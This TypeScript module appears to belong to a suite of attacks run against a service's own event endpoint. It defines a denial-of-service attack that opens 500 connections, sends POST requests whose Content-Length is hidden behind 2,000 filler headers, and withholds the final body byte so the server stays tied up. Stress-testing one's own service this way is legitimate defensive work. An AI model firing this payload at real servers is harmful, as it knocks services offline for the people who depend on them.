import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.ts';
import { toHead } from '../request-bytes.ts';

const connections = 500;
const bodyBytes = 1_000_000;

/**
 * Node.js keeps the first 2,000 headers: a Content-Length after them frames the body, but code that reads the headers
 * does not see it.
 */
export const hiddenLengths: Attack = {
  name: 'hidden-lengths',
  what: `${connections} bodies of 1 MB whose length stands behind 2,000 headers, and whose last byte does not come`,
  async run({ attacker, publishableKey, count, hold }) {
    const head = toHead('POST', '/api/sdk/event', {
      key: publishableKey,
      headers: { 'content-type': 'application/json' },
    }).slice(0, -2);
    const bytes = Buffer.from(
      `${head}${'a:\r\n'.repeat(2_000)}content-length: ${bodyBytes}\r\n\r\n${' '.repeat(bodyBytes - 1)}`,
    );
    const sockets = await attacker.openMany(count(connections), 20);
    await Promise.all(sockets.map((socket) => Promise.race([socket.write(bytes), sleep(8_000)])));
    await hold(5_000);
    return [];
  },
};
